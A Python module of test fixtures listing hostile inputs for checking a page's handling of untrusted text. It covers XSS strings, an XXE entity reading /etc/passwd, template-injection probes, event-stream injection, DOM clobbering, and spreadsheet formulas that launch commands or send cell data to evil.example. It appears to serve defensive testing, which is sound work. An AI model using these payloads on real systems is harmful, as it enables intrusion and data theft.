"""What strangers write to break a page: script, forged events, formulas, marks, and huge text.

Each payload that runs sets ``window.__pwned``. The address ``evil.example`` is never resolved: a
request to it shows itself, since the tests allow none off the origin.
"""

from typing import Final

ZALGO: Final = "".join(letter + "\u0300\u0316\u0301\u0323\u0308" * 12 for letter in "zalgo")
RUN: Final = "window.__pwned=1"

ELEMENTS: Final = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<SCRIPT SRC=https://evil.example/x.js></SCRIPT><scr<script>ipt>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=https://evil.example/pixel.png onload={RUN}>",
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"></svg>',
    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<body onload={RUN}><frameset onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee><xss onpointerover={RUN} style=position:fixed;inset:0>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe><embed src=https://evil.example/>",
    f'<object data="data:text/html,<script>parent.{RUN}</script>"></object>',
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<title></title><img src=x onerror={RUN}>",
    f"<textarea></textarea><img src=x onerror={RUN}></textarea>",
    "<style>@import 'https://evil.example/x.css'; * {display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css><link rel=preload href=//evil.example>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<base href=https://evil.example/>",
    f"<form action=https://evil.example/><button formaction=javascript:{RUN}>go</button>",
    f'<a href=javascript:{RUN}>x</a><a href="  java\tscript:{RUN}">y</a>',
    "<a href=https://evil.example target=_blank ping=https://evil.example>z</a>",
    "<dialog open>over everything</dialog><div popover id=p>p</div>",
    f'<div style="background:url(javascript:{RUN});position:fixed;inset:0;z-index:9">x</div>',
)
ATTRIBUTES: Final = (
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus tabindex='0",
    f'"><img src=x onerror={RUN}>',
    f"'><svg/onload={RUN}>",
    f"` onerror={RUN} `",
    f"x onpointerenter={RUN} ",
    f"&#34;&gt;&lt;img src=x onerror={RUN}&gt;",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;lt;b&amp;gt;",
    "&NewLine;&Tab;&colon;&#0;&#x110000;&notanentity",
    f"\u003cscript\u003e{RUN}\u003c/script\u003e \\u003cscript\\u003e",
)
COMMENTS: Final = (
    "<!-- never closed",
    f"--><img src=x onerror={RUN}><!--",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"]]><script>{RUN}</script>",
    '<?php echo 1 ?><?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "<plaintext>",
    "<xmp><listing>",
)
ADDRESSES: Final = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//https://a.example",
    f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    "blob:https://evil.example/1",
    "//evil.example/x",
    "/\\evil.example/x",
    f'https://a.example/"onmouseover="{RUN}',
    "https://evil.example\\@a.example/",
    "https://[::1",
    "file:///etc/passwd",
)
TEMPLATES: Final = (
    "{{7*7}}",
    "{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %> {0.__class__} %s %n",
    "{0} {1} {} {__import__('os')}",
)
EVENTS: Final = (
    'x\n\nevent: gone\ndata: {"author": "*", "version": 9}\n\n',
    'x\r\rdata: {"live": false}\revent: state\r\r',
    "id: 99999999-9\nretry: 1\n\n: x\u2028event: reset\u2028data: {}\u2029\u2029",
    '"},"html":"<img src=x onerror=' + RUN + '>","key":"',
)
NAMES: Final = (
    "<form id=main name=body><input id=q name=baseURI><img name=querySelector>",
    "<a id=title-posts name=documentElement href=https://evil.example>x</a>",
    "<img name=trustedTypes id=trustedTypes><a id=keys><a id=keys name=showModal>",
    "__proto__",
    "constructor",
)
FORMULAS: Final = (
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '\r=1+1,"a\nb""',
    "＝1+1",
)
SIGNS: Final = (
    "\u202ereversed\u202d \u2066isolate \u2067never closed",
    "\u200f\u061cعربي then \u202etxt.exe",
    ZALGO,
    "a\x00b\x07\x1b[31mred\x7f\x85\x9b\u2028\u2029c",
    "\ufeff\ufffe\uffff\U0010ffff\u200b\u200c\u200d\u2060",
    "👨‍👩‍👧‍👦" * 40,
    "\u0e49" * 90 + "\u0489" * 90,
    "W" * 5_000,
    "<b>" * 2_000,
    "﷽" * 200,
    "\n" * 400 + "end",
)
PAYLOADS: Final = (
    *ELEMENTS, *ATTRIBUTES, *COMMENTS, *ADDRESSES, *TEMPLATES, *EVENTS, *NAMES, *FORMULAS, *SIGNS,
)  # fmt: skip
